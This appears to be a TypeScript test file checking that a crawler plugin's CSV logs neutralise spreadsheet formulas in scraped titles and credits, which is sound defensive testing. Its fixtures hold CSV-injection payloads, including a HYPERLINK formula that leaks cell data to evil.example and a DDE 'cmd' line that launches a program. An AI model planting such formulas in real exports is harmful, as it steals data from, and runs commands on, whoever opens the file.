import test from 'ava';
import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { crawlLog } from '@filigrane/plugin-crawler';

const collect = async (stream: NodeJS.ReadableStream): Promise<Buffer> => {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
};

async function* items(rows: Record<string, unknown>[]) {
  for (const r of rows) yield { created: new Date('2026-03-02T10:00:00Z'), ...r };
}

test('crawl logs neutralise spreadsheet formulas in third-party text, like every other CSV', async (t) => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR'];
  const pages = hostile.map((title, i) => ({ url: `https://site.example/${i}`, status: 200, content_type: 'text/html', bytes: '512', title, outcome: 'ok' }));
  const text = gunzipSync(await collect(crawlLog('page', items(pages)))).toString('utf8');
  const rows = parse(text, { columns: true }) as Record<string, string>[];
  t.deepEqual(rows.map((r) => r.title), hostile.map((h) => `'${h}`));
  t.deepEqual(rows[0], { url: 'https://site.example/0', status: '200', content_type: 'text/html', bytes: '512', title: `'${hostile[0]}`, outcome: 'ok', fetched_at: '2026-03-02T10:00:00.000Z' });
  const images = [{ url: 'https://site.example/a.jpg', page_url: 'https://site.example/', credit: '=1+2 Studio', width: 640, height: 480, matches: 0, watermarked: false, outcome: 'no match' }];
  const [image] = parse(gunzipSync(await collect(crawlLog('image', items(images)))).toString('utf8'), { columns: true }) as Record<string, string>[];
  t.is(image!.credit, "'=1+2 Studio");
  t.is(image!.width, '640');
  t.is(image!.watermarked, 'false');
});
